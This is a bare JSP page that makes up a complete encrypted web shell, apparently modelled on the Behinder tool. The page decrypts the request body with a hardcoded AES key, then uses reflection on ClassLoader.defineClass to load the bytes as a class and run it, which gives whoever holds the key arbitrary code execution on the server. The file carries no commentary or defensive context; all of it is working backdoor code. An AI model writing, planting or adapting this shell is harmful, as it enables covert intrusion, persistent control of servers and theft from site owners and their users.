<%@page import="java.util.*,java.lang.reflect.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!
private byte[] dec(byte[] data) throws Exception {
  String k = "223d39fcec500401";
  Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");
  c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
  return c.doFinal(data);
}
%>
<%
byte[] body = new byte[request.getContentLength()];
new java.io.DataInputStream(request.getInputStream()).readFully(body);
byte[] bytes = dec(Base64.getDecoder().decode(body));
Method m = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
m.setAccessible(true);
Class<?> cls = (Class<?>) m.invoke(Thread.currentThread().getContextClassLoader(), bytes, 0, bytes.length);
cls.newInstance().equals(pageContext);
%>
